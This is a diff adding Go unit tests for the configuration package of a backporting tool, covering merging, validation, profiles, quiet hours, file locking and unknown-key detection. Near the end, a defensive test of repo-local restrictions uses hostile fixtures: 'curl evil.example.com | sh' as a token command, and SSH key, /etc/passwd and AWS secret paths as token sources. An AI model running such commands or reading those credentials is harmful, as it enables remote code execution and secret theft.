@@ -1,12 +1,18 @@
 package config
 
 import (
+	"fmt"
 	"os"
 	"path/filepath"
+	"strings"
+	"sync"
 	"testing"
+	"time"
 
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
+
+	"codefloe.com/pat-s/backporter/pkg/fileutil"
 )
 
 func TestDefaultConfig(t *testing.T) {
@@ -103,6 +109,50 @@ func TestConfigMerge(t *testing.T) {
 	}
 }
 
+func TestConfigMergeBranchProtection(t *testing.T) {
+	cfg := DefaultConfig()
+	cfg.Merge(&Config{BranchProtection: BranchProtectionConfig{Enabled: true, RequiredApprovals: 2}})
+	assert.True(t, cfg.BranchProtection.Enabled)
+	assert.Equal(t, 2, cfg.BranchProtection.RequiredApprovals)
+
+	// A config without branch protection keeps the existing template.
+	cfg.Merge(&Config{})
+	assert.True(t, cfg.BranchProtection.Enabled)
+}
+
+func TestConfigWriteRemote(t *testing.T) {
+	cfg := DefaultConfig()
+	assert.Equal(t, "origin", cfg.WriteRemote())
+
+	cfg.Merge(&Config{Remote: "upstream", PushRemote: "origin"})
+	assert.Equal(t, "upstream", cfg.Remote)
+	assert.Equal(t, "origin", cfg.WriteRemote())
+}
+
+func TestConfigMergeNotify(t *testing.T) {
+	cfg := DefaultConfig()
+	cfg.Merge(&Config{CI: CIConfig{Notify: NotifyConfig{Mode: NotifyDigest, OnlyFailures: true}}})
+	assert.Equal(t, NotifyDigest, cfg.CI.Notify.Mode)
+	assert.True(t, cfg.CI.Notify.OnlyFailures)
+
+	// A config without notification settings keeps the existing ones.
+	cfg.Merge(&Config{})
+	assert.Equal(t, NotifyDigest, cfg.CI.Notify.Mode)
+}
+
+func TestConfigMergePRMetadata(t *testing.T) {
+	cfg := DefaultConfig()
+	cfg.Merge(&Config{CI: CIConfig{CopyLabels: true, ScopeConfig: ScopeConfig{Reviewers: []string{"alice"}}}})
+	cfg.Merge(&Config{CI: CIConfig{CopyMilestone: true, CreateConflictPR: true, ScopeConfig: ScopeConfig{Labels: []string{"backport-pr"}}}})
+
+	assert.True(t, cfg.CI.CopyLabels)
+	assert.True(t, cfg.CI.CreateConflictPR)
+	assert.True(t, cfg.CI.CopyMilestone)
+	assert.False(t, cfg.CI.CopyAssignees)
+	assert.Equal(t, []string{"alice"}, cfg.CI.Reviewers)
+	assert.Equal(t, []string{"backport-pr"}, cfg.CI.Labels)
+}
+
 func TestConfigValidate(t *testing.T) {
 	tests := []struct {
 		name      string
@@ -128,6 +178,13 @@ func TestConfigValidate(t *testing.T) {
 			},
 			wantError: false,
 		},
+		{
+			name: "valid bitbucket forge type",
+			config: &Config{
+				ForgeType: "bitbucket",
+			},
+			wantError: false,
+		},
 		{
 			name: "invalid forge type",
 			config: &Config{
@@ -135,6 +192,137 @@ func TestConfigValidate(t *testing.T) {
 			},
 			wantError: true,
 		},
+		{
+			name: "valid notify mode",
+			config: &Config{
+				CI: CIConfig{Notify: NotifyConfig{Mode: NotifyDigest}},
+			},
+			wantError: false,
+		},
+		{
+			name: "invalid notify mode",
+			config: &Config{
+				CI: CIConfig{Notify: NotifyConfig{Mode: "email"}},
+			},
+			wantError: true,
+		},
+		{
+			name: "valid commit identity",
+			config: &Config{
+				CommitIdentity: IdentityReauthor,
+				AuthorName:     "Backport Bot",
+				AuthorEmail:    "bot@example.com",
+			},
+			wantError: false,
+		},
+		{
+			name: "commit identity with scope authors",
+			config: &Config{
+				CommitIdentity: IdentityCommitter,
+				CI:             CIConfig{ScopeConfig: ScopeConfig{AuthorName: "Backport Bot", AuthorEmail: "bot@example.com"}},
+				Interactive:    InteractiveConfig{ScopeConfig: ScopeConfig{AuthorName: "Alice", AuthorEmail: "alice@example.com"}},
+			},
+			wantError: false,
+		},
+		{
+			name: "commit identity without author",
+			config: &Config{
+				CommitIdentity: IdentityCommitter,
+				CI:             CIConfig{ScopeConfig: ScopeConfig{AuthorName: "Backport Bot", AuthorEmail: "bot@example.com"}},
+			},
+			wantError: true,
+		},
+		{
+			name: "invalid commit identity",
+			config: &Config{
+				CommitIdentity: "anonymous",
+			},
+			wantError: true,
+		},
+		{
+			name: "review checklist without branches",
+			config: &Config{
+				ReviewChecklists: []ReviewChecklistConfig{{Items: []string{"Check migrations"}}},
+			},
+			wantError: true,
+		},
+		{
+			name: "valid path mapping",
+			config: &Config{
+				PathMappings: []PathMappingConfig{{Branches: []string{"release-1.x"}, Paths: map[string]string{"src/new/": "src/old/"}}},
+			},
+			wantError: false,
+		},
+		{
+			name: "path mapping without paths",
+			config: &Config{
+				PathMappings: []PathMappingConfig{{Branches: []string{"release-1.x"}}},
+			},
+			wantError: true,
+		},
+		{
+			name: "path mapping with empty target",
+			config: &Config{
+				PathMappings: []PathMappingConfig{{Branches: []string{"release-1.x"}, Paths: map[string]string{"src/new/": ""}}},
+			},
+			wantError: true,
+		},
+		{
+			name: "valid min version",
+			config: &Config{
+				MinVersion: "v1.4.0",
+			},
+			wantError: false,
+		},
+		{
+			name: "invalid min version",
+			config: &Config{
+				MinVersion: "latest",
+			},
+			wantError: true,
+		},
+		{
+			name: "invalid repository pattern",
+			config: &Config{
+				ReposDeny: []string{"acme/(unclosed"},
+			},
+			wantError: true,
+		},
+		{
+			name: "valid telemetry endpoint",
+			config: &Config{
+				Telemetry: TelemetryConfig{Enabled: true, Endpoint: "https://stats.example.com/events"},
+			},
+			wantError: false,
+		},
+		{
+			name: "telemetry without endpoint",
+			config: &Config{
+				Telemetry: TelemetryConfig{Enabled: true},
+			},
+			wantError: true,
+		},
+		{
+			name: "valid forge cache ttl",
+			config: &Config{
+				Cache: CacheConfig{ForgeTTL: "10m"},
+			},
+			wantError: false,
+		},
+		{
+			name: "invalid forge cache ttl",
+			config: &Config{
+				Cache: CacheConfig{ForgeTTL: "ten minutes"},
+			},
+			wantError: true,
+		},
+		{
+			name: "negative forge cache ttl",
+			config: &Config{
+				Cache: CacheConfig{ForgeTTL: "-1m"},
+			},
+			wantError: true,
+		},
 	}
 
 	for _, tt := range tests {
@@ -149,6 +337,189 @@ func TestConfigValidate(t *testing.T) {
 	}
 }
 
+func TestRepoAllowed(t *testing.T) {
+	assert.True(t, DefaultConfig().RepoAllowed("acme", "api"))
+
+	cfg := &Config{
+		ReposAllow: []string{"acme/.*", "other/tool"},
+		ReposDeny:  []string{"acme/secrets"},
+	}
+	assert.True(t, cfg.RepoAllowed("acme", "api"))
+	assert.True(t, cfg.RepoAllowed("Other", "Tool"))
+	assert.False(t, cfg.RepoAllowed("acme", "secrets"))
+	assert.False(t, cfg.RepoAllowed("other", "tool-fork"))
+	assert.False(t, cfg.RepoAllowed("someone", "api"))
+
+	// Deny only.
+	cfg = &Config{ReposDeny: []string{"acme/secrets"}}
+	assert.True(t, cfg.RepoAllowed("acme", "api"))
+	assert.False(t, cfg.RepoAllowed("acme", "secrets"))
+}
+
+func TestUseProfile(t *testing.T) {
+	global := &Config{
+		ForgeType: "github",
+		Profiles: map[string]ProfileConfig{
+			"oss":  {ForgeType: "github"},
+			"work": {ForgeType: "forgejo", ForgejoURL: "https://git.example.com", TokenEnv: "WORK_TOKEN"},
+		},
+	}
+	repo := &Config{Profiles: map[string]ProfileConfig{"oss": {ForgeType: "bitbucket"}}}
+
+	cfg := DefaultConfig()
+	cfg.Merge(global)
+	cfg.Merge(repo)
+	assert.Len(t, cfg.Profiles, 2)
+	assert.Equal(t, "bitbucket", cfg.Profiles["oss"].ForgeType)
+
+	require.NoError(t, cfg.UseProfile("work"))
+	assert.Equal(t, "forgejo", cfg.ForgeType)
+	assert.Equal(t, "https://git.example.com", cfg.ForgejoURL)
+	assert.Equal(t, "WORK_TOKEN", cfg.TokenEnv)
+
+	err := cfg.UseProfile("home")
+	require.Error(t, err)
+	assert.Contains(t, err.Error(), "available: oss, work")
+
+	// Directories meant for pprof profiles are pointed to --pprof.
+	for _, name := range []string{"./profile", "/tmp/backporter", t.TempDir()} {
+		assert.ErrorContains(t, cfg.UseProfile(name), "use --pprof or BACKPORTER_PPROF", name)
+	}
+
+	require.Error(t, DefaultConfig().UseProfile("work"))
+
+	cfg.Profiles["broken"] = ProfileConfig{ForgeType: "gitlab"}
+	assert.Error(t, cfg.Validate())
+}
+
+func TestUseHost(t *testing.T) {
+	cfg := DefaultConfig()
+	cfg.Merge(&Config{
+		ForgeType: "github",
+		Hosts: map[string]HostConfig{
+			"Git.MyCorp.com":    {Type: "forgejo", TokenEnv: "CORP_TOKEN"},
+			"review.mycorp.com": {Type: "gerrit", URL: "https://review.mycorp.com/r"},
+		},
+	})
+	require.NoError(t, cfg.Validate())
+
+	assert.False(t, cfg.UseHost("github.com"))
+	assert.Equal(t, "github", cfg.ForgeType)
+
+	assert.True(t, cfg.UseHost("git.mycorp.com"))
+	assert.Equal(t, "forgejo", cfg.ForgeType)
+	assert.Equal(t, "https://git.mycorp.com", cfg.ForgejoURL)
+	assert.Equal(t, "CORP_TOKEN", cfg.TokenEnv)
+
+	assert.True(t, cfg.UseHost("review.mycorp.com"))
+	assert.Equal(t, "gerrit", cfg.ForgeType)
+	assert.Equal(t, "https://review.mycorp.com/r", cfg.GerritURL)
+
+	cfg.Hosts["gitlab.mycorp.com"] = HostConfig{Type: "gitlab"}
+	assert.ErrorContains(t, cfg.Validate(), "invalid hosts.gitlab.mycorp.com.type")
+
+	delete(cfg.Hosts, "gitlab.mycorp.com")
+	cfg.Hosts["Git.MyCorp.com"] = HostConfig{URL: "git.mycorp.com"}
+	assert.ErrorContains(t, cfg.Validate(), "invalid hosts.Git.MyCorp.com.url")
+}
+
+func TestQuietWindowContains(t *testing.T) {
+	at := func(value string) time.Time {
+		parsed, err := time.Parse(time.RFC3339, value)
+		require.NoError(t, err)
+		return parsed
+	}
+
+	tests := []struct {
+		name   string
+		window QuietWindow
+		at     string
+		want   bool
+	}{
+		{"daily inside", QuietWindow{Start: "09:00", End: "17:00"}, "2024-05-08T12:00:00Z", true},
+		{"daily end is exclusive", QuietWindow{Start: "09:00", End: "17:00"}, "2024-05-08T17:00:00Z", false},
+		{"overnight before midnight", QuietWindow{Start: "22:00", End: "06:00"}, "2024-05-08T23:00:00Z", true},
+		{"overnight after midnight", QuietWindow{Start: "22:00", End: "06:00"}, "2024-05-09T05:59:00Z", true},
+		{"overnight outside", QuietWindow{Start: "22:00", End: "06:00"}, "2024-05-09T12:00:00Z", false},
+		{"weekend", QuietWindow{Days: []string{"sat", "sun"}}, "2024-05-11T12:00:00Z", true},
+		{"weekday", QuietWindow{Days: []string{"sat", "sun"}}, "2024-05-10T12:00:00Z", false},
+		{"friday night belongs to friday", QuietWindow{Days: []string{"Fri"}, Start: "18:00", End: "08:00"}, "2024-05-11T07:00:00Z", true},
+		{"saturday night is not friday", QuietWindow{Days: []string{"fri"}, Start: "18:00", End: "08:00"}, "2024-05-12T07:00:00Z", false},
+		{"freeze", QuietWindow{From: "2024-12-20", Until: "2025-01-06"}, "2025-01-06T23:00:00Z", true},
+		{"after freeze", QuietWindow{From: "2024-12-20", Until: "2025-01-06"}, "2025-01-07T00:00:00Z", false},
+		{"time zone", QuietWindow{Start: "09:00", End: "17:00", Timezone: "Europe/Berlin"}, "2024-05-08T07:30:00Z", true},
+		{"invalid time zone", QuietWindow{Timezone: "Mars/Olympus"}, "2024-05-08T07:30:00Z", false},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			assert.Equal(t, tt.want, tt.window.Contains(at(tt.at)))
+		})
+	}
+
+	ci := CIConfig{QuietHours: []QuietWindow{{Days: []string{"sun"}}, {Start: "22:00", End: "06:00"}}}
+	assert.Nil(t, ci.QuietWindowAt(at("2024-05-08T12:00:00Z")))
+	assert.Equal(t, "22:00", ci.QuietWindowAt(at("2024-05-08T23:00:00Z")).Start)
+}
+
+func TestQuietWindowValidate(t *testing.T) {
+	for _, window := range []QuietWindow{
+		{Days: []string{"someday"}},
+		{Start: "09:00"},
+		{Start: "9am", End: "5pm"},
+		{From: "20th december"},
+		{Timezone: "Mars/Olympus"},
+	} {
+		cfg := &Config{CI: CIConfig{QuietHours: []QuietWindow{window}}}
+		assert.Error(t, cfg.Validate(), "%+v", window)
+	}
+
+	cfg := &Config{CI: CIConfig{QuietHours: []QuietWindow{{Days: []string{"sat"}, Start: "00:00", End: "23:59", Timezone: "UTC"}}}}
+	assert.NoError(t, cfg.Validate())
+}
+
+func TestValidateAutoMerge(t *testing.T) {
+	for _, autoMerge := range []AutoMergeConfig{
+		{Method: "squash"},
+		{Branches: []string{"release-.*"}, Method: "fast-forward"},
+		{Branches: []string{"release-.*"}},
+	} {
+		cfg := &Config{CI: CIConfig{AutoMerge: []AutoMergeConfig{autoMerge}}}
+		assert.Error(t, cfg.Validate(), "%+v", autoMerge)
+	}
+
+	cfg := &Config{CI: CIConfig{AutoMerge: []AutoMergeConfig{
+		{Branches: []string{"release-.*"}, Method: "squash"},
+		{Branches: []string{"lts"}, Approve: true},
+	}}}
+	assert.NoError(t, cfg.Validate())
+}
+
+func TestValidatePushFork(t *testing.T) {
+	for _, fork := range []string{"bot", "bot/", "/repo", "bot/repo/extra"} {
+		cfg := &Config{CI: CIConfig{PushFork: fork}}
+		assert.Error(t, cfg.Validate(), fork)
+	}
+
+	cfg := &Config{CI: CIConfig{PushFork: "bot/repo"}}
+	assert.NoError(t, cfg.Validate())
+}
+
+func TestCheckMinVersion(t *testing.T) {
+	assert.NoError(t, DefaultConfig().CheckMinVersion("1.0.0"))
+
+	cfg := &Config{MinVersion: "1.4.0"}
+	assert.NoError(t, cfg.CheckMinVersion("1.4.0"))
+	assert.NoError(t, cfg.CheckMinVersion("v1.5.2"))
+	assert.NoError(t, cfg.CheckMinVersion("dev"))
+
+	var tooOld *VersionTooOldError
+	require.ErrorAs(t, cfg.CheckMinVersion("1.3.9"), &tooOld)
+	assert.Equal(t, "1.4.0", tooOld.Required)
+	assert.Equal(t, "1.3.9", tooOld.Current)
+	assert.Error(t, cfg.CheckMinVersion("1.4.0-rc1"))
+}
+
 func TestLoadFromFile(t *testing.T) {
 	// Create a temporary config file.
 	tmpDir := t.TempDir()
@@ -227,6 +598,75 @@ func TestSaveToFile(t *testing.T) {
 	assert.Equal(t, cfg.AuthorEmail, loaded.AuthorEmail)
 }
 
+func TestSaveToFilePreservesComments(t *testing.T) {
+	configPath := filepath.Join(t.TempDir(), "config.yaml")
+	existing := `# Shared settings
+remote: upstream # the fork
+
+# Maintained branches
+target_branches:
+  - release-1.x
+forge_type: github
+`
+	require.NoError(t, os.WriteFile(configPath, []byte(existing), 0o600))
+
+	cfg, err := LoadFromFile(configPath)
+	require.NoError(t, err)
+	cfg.TargetBranches = []string{"release-2.x"}
+	require.NoError(t, cfg.SaveToFile(configPath))
+
+	data, err := os.ReadFile(configPath)
+	require.NoError(t, err)
+	content := string(data)
+	assert.True(t, strings.HasPrefix(content, "# Shared settings\nremote: upstream # the fork\n\n# Maintained branches\ntarget_branches:\n"), content)
+	assert.Less(t, strings.Index(content, "target_branches"), strings.Index(content, "forge_type"), "key order should be kept")
+	assert.NotContains(t, content, "release-1.x")
+	assert.True(t, strings.HasSuffix(content, "\n") && !strings.HasSuffix(content, "\n\n"))
+
+	info, err := os.Stat(configPath)
+	require.NoError(t, err)
+	assert.Equal(t, os.FileMode(0o600), info.Mode().Perm())
+
+	loaded, err := LoadFromFile(configPath)
+	require.NoError(t, err)
+	assert.Equal(t, []string{"release-2.x"}, loaded.TargetBranches)
+	assert.Equal(t, "upstream", loaded.Remote)
+	assert.NoFileExists(t, configPath+".lock")
+}
+
+func TestSaveToFileConcurrent(t *testing.T) {
+	configPath := filepath.Join(t.TempDir(), "config.yaml")
+
+	var wg sync.WaitGroup
+	for i := range 8 {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			cfg := DefaultConfig()
+			cfg.TargetBranches = []string{fmt.Sprintf("release-%d.x", i)}
+			assert.NoError(t, cfg.SaveToFile(configPath))
+		}()
+	}
+	wg.Wait()
+
+	loaded, err := LoadFromFile(configPath)
+	require.NoError(t, err)
+	assert.Len(t, loaded.TargetBranches, 1)
+}
+
+func TestSaveToFileLocked(t *testing.T) {
+	configPath := filepath.Join(t.TempDir(), "config.yaml")
+	require.NoError(t, os.WriteFile(configPath+".lock", nil, 0o644))
+
+	timeout := fileutil.LockTimeout
+	fileutil.LockTimeout = 100 * time.Millisecond
+	defer func() { fileutil.LockTimeout = timeout }()
+
+	err := DefaultConfig().SaveToFile(configPath)
+	assert.ErrorContains(t, err, "locked by another backporter process")
+	assert.NoFileExists(t, configPath)
+}
+
 func TestGlobalConfigPath(t *testing.T) {
 	path := GlobalConfigPath()
 	// Should contain .config/backporter.
@@ -239,3 +679,177 @@ func TestRepoConfigPath(t *testing.T) {
 	path := RepoConfigPath()
 	assert.Equal(t, ".backporter.yaml", path)
 }
+
+func TestConfigForScope(t *testing.T) {
+	cfg := DefaultConfig()
+	cfg.TargetBranches = []string{"release-1.x"}
+	cfg.CommitMessage = "shared"
+	cfg.CI.TargetBranches = []string{"release-1.x", "release-2.x"}
+	cfg.Interactive.CommitMessage = "interactive"
+	cfg.CI.Rerere = true
+	cfg.CI.Labels = []string{"backport"}
+	cfg.CI.Reviewers = []string{"release-manager"}
+	cfg.Interactive.Labels = []string{"manual-backport"}
+	cfg.Interactive.DraftPRs = true
+
+	ci := cfg.ForScope(ScopeCI)
+	assert.Equal(t, []string{"release-1.x", "release-2.x"}, ci.TargetBranches)
+	assert.Equal(t, "shared", ci.CommitMessage)
+	assert.True(t, ci.Rerere)
+	assert.Equal(t, []string{"backport"}, ci.CI.Labels)
+	assert.False(t, ci.CI.DraftPRs)
+
+	interactive := cfg.ForScope(ScopeInteractive)
+	assert.Equal(t, []string{"release-1.x"}, interactive.TargetBranches)
+	assert.Equal(t, "interactive", interactive.CommitMessage)
+	assert.False(t, interactive.Rerere)
+	// PRs opened interactively use the CI PR settings unless the interactive scope overrides them.
+	assert.Equal(t, []string{"manual-backport"}, interactive.CI.Labels)
+	assert.Equal(t, []string{"release-manager"}, interactive.CI.Reviewers)
+	assert.True(t, interactive.CI.DraftPRs)
+
+	// The original config is left untouched.
+	assert.Equal(t, []string{"release-1.x"}, cfg.TargetBranches)
+	assert.Equal(t, "shared", cfg.CommitMessage)
+	assert.False(t, cfg.Rerere)
+	assert.Equal(t, []string{"backport"}, cfg.CI.Labels)
+}
+
+func TestLoadFromFileScoped(t *testing.T) {
+	tmpDir := t.TempDir()
+	configPath := filepath.Join(tmpDir, "config.yaml")
+
+	configContent := `
+target_branches:
+  - stable
+interactive:
+  target_branches:
+    - release-1.x
+ci:
+  default_prefix: chore
+  target_branches:
+    - release-2.x
+`
+
+	require.NoError(t, os.WriteFile(configPath, []byte(configContent), 0o644))
+
+	cfg, err := LoadFromFile(configPath)
+	require.NoError(t, err)
+
+	assert.Equal(t, []string{"stable"}, cfg.TargetBranches)
+	assert.Equal(t, []string{"release-1.x"}, cfg.Interactive.TargetBranches)
+	assert.Equal(t, []string{"release-2.x"}, cfg.CI.TargetBranches)
+	assert.Equal(t, "chore", cfg.CI.DefaultPrefix)
+
+	merged := DefaultConfig()
+	merged.Merge(cfg)
+	assert.Equal(t, []string{"release-2.x"}, merged.ForScope(ScopeCI).TargetBranches)
+}
+
+func TestUnknownKeys(t *testing.T) {
+	data := []byte(`
+forge_type: github
+forge_typo: forgejo
+interactive:
+  target_branches: [release-1.x]
+ci:
+  default_prefix: fix
+  notfy:
+    mode: digest
+  quiet_hours:
+    - days: [sat]
+      tz: UTC
+profiles:
+  work:
+    forge_type: forgejo
+    url: https://git.example.com
+`)
+
+	unknown, err := UnknownKeys(data)
+	require.NoError(t, err)
+	assert.Equal(t, []UnknownKey{
+		{Key: "forge_typo", Line: 3, Suggestion: "forge_type"},
+		{Key: "ci.notfy", Line: 8, Suggestion: "notify"},
+		{Key: "ci.quiet_hours[0].tz", Line: 12},
+		{Key: "profiles.work.url", Line: 16},
+	}, unknown)
+	assert.Equal(t, "unknown key ci.notfy at line 8, did you mean notify?", unknown[1].String())
+
+	_, err = UnknownKeys([]byte("forge_type: [github"))
+	assert.Error(t, err)
+}
+
+func TestSetKeysAndValues(t *testing.T) {
+	data := []byte(`
+forge_type: github
+target_branches: [release-1.x, release-2.x]
+ci:
+  notify:
+    mode: digest
+`)
+
+	keys, err := SetKeys(data)
+	require.NoError(t, err)
+	assert.Equal(t, []string{"ci.notify.mode", "forge_type", "target_branches"}, keys)
+
+	cfg := DefaultConfig()
+	cfg.ForgeType = "github"
+	cfg.TargetBranches = []string{"release-1.x", "release-2.x"}
+
+	values, err := cfg.Values()
+	require.NoError(t, err)
+	assert.Contains(t, values, KeyValue{Key: "forge_type", Value: "github"})
+	assert.Contains(t, values, KeyValue{Key: "target_branches", Value: `["release-1.x","release-2.x"]`})
+	assert.Contains(t, values, KeyValue{Key: "recent_pr_count", Value: "10"})
+	assert.Contains(t, values, KeyValue{Key: "ci.default_prefix", Value: "fix"})
+	for _, kv := range values {
+		assert.NotEqual(t, "commit_message", kv.Key, "empty settings are left out")
+	}
+}
+
+func TestLoadFromFileStrict(t *testing.T) {
+	configPath := filepath.Join(t.TempDir(), "config.yaml")
+	require.NoError(t, os.WriteFile(configPath, []byte("forge_type: github\ntarged_branches:\n  - release-1.x\n"), 0o644))
+
+	// Unknown keys are ignored by default.
+	cfg, err := LoadFromFile(configPath)
+	require.NoError(t, err)
+	assert.Equal(t, "github", cfg.ForgeType)
+
+	_, err = LoadFromFileWithOptions(configPath, LoadOptions{Strict: true})
+	var keysErr *UnknownKeysError
+	require.ErrorAs(t, err, &keysErr)
+	assert.Equal(t, []UnknownKey{{Key: "targed_branches", Line: 2, Suggestion: "target_branches"}}, keysErr.Keys)
+	assert.Contains(t, err.Error(), "did you mean target_branches?")
+}
+
+func TestEditDistance(t *testing.T) {
+	assert.Equal(t, 0, editDistance("remote", "remote"))
+	assert.Equal(t, 1, editDistance("targed_branches", "target_branches"))
+	assert.Equal(t, 3, editDistance("", "abc"))
+	assert.Equal(t, 1, editDistance("notfy", "notify"))
+}
+
+func TestCheckRepoLocal(t *testing.T) {
+	assert.NoError(t, (&Config{ForgeType: "forgejo", ForgejoURL: "https://git.example.com"}).CheckRepoLocal())
+
+	tests := []struct {
+		name   string
+		config *Config
+		want   string
+	}{
+		{name: "token command", config: &Config{TokenCommand: "curl evil.example.com | sh"}, want: "token_command is only allowed in the global config"},
+		{name: "token file", config: &Config{TokenFile: "~/.ssh/id_ed25519"}, want: "token_file is only allowed"},
+		{name: "token env", config: &Config{TokenEnv: "AWS_SECRET_ACCESS_KEY"}, want: "token_env is only allowed"},
+		{name: "profile", config: &Config{Profiles: map[string]ProfileConfig{"work": {TokenCommand: "sh"}}}, want: "profiles.work.token_command"},
+		{name: "host", config: &Config{Hosts: map[string]HostConfig{"git.example.com": {TokenFile: "/etc/passwd"}}}, want: "hosts.git.example.com.token_file"},
+		{name: "telemetry", config: &Config{Telemetry: TelemetryConfig{Enabled: true, Endpoint: "https://stats.example.com"}}, want: "telemetry is only allowed"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			err := tt.config.CheckRepoLocal()
+			require.Error(t, err)
+			assert.Contains(t, err.Error(), tt.want)
+		})
+	}
+}